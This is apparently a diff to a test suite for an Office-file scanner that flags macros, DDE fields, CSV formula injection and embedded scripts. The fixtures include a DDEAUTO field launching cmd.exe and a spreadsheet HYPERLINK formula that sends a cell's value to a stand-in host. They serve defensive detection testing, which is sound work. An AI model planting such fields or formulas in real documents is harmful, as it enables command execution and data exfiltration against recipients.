@@ -39,9 +39,9 @@ TEST(Office, MacrosAreFoundWhateverTheyAreCalled)
 {
     const std::string project = ole({{"VBA/dir", "x"}, {"VBA/_VBA_PROJECT", "x"}, {"PROJECT", "x"}});
     expect({
-        {"76 docm", "a.docm", docx("", {{"word/vbaProject.bin", project}}), "macro not_supported"},
-        {"76 renamed docx", "a.docx", docx("", {{"word/vbaProject.bin", project}}), "macro not_supported"},
-        {"76 renamed part", "a.docx", docx("", {{"word/media/x.bin", project}}), "macro not_supported"},
+        {"76 docm", "a.docm", docx("", {{"word/vbaProject.bin", project}}), "macro"},
+        {"76 renamed docx", "a.docx", docx("", {{"word/vbaProject.bin", project}}), "macro"},
+        {"76 renamed part", "a.docx", docx("", {{"word/media/x.bin", project}}), "macro"},
         {"76 content type", "a.docx",
          docx("", {{"word/x.xml", "<Types><Override PartName=\"/a\" "
                                   "ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>"}}),
@@ -139,6 +139,18 @@ TEST(Office, DdeIsFound)
         {"77 ddeauto", "a.docx", docx(runs({" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" "})),
          "dynamic_data"},
         {"77 split over runs", "a.docx", docx(runs({" D", "DE", "AU", "TO cmd x "})), "dynamic_data"},
+        {"77 outside of any field", "a.docx",
+         docx("<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO a "
+              "b</w:instrText></w:r></w:p>"),
+         "dynamic_data"},
+        {"77 csv that carries a cell away", "a.csv", "=HYPERLINK(\"http://x.example/?\"&A1;\"x\")\n",
+         "dynamic_data"},
+        {"77 trap: link in a workbook", "a.xlsx",
+         docx("", {{"xl/s.xml", "<x><c><f>HYPERLINK(\"https://schule.de/\",\"Schule\")</f></c></x>"}}), ""},
+        {"75 page as a part", "a.docx", docx("", {{"word/chunk.html", "<html><script>x</script></html>"}}),
+         "html_active"},
+        {"75 page called XML", "a.docx", docx("", {{"word/chunk.xml", "<html><script>x</script></html>"}}),
+         "html_active"},
         {"77 simple", "a.docx", docx("<w:p><w:fldSimple w:instr=\" dde cmd x\"/></w:p>"), "dynamic_data"},
         {"77 quote", "a.docx", docx(runs({" QUOTE 68 68 69 65 85 84 79 "})), "dynamic_data"},
         {"77 renamed part", "a.docx",
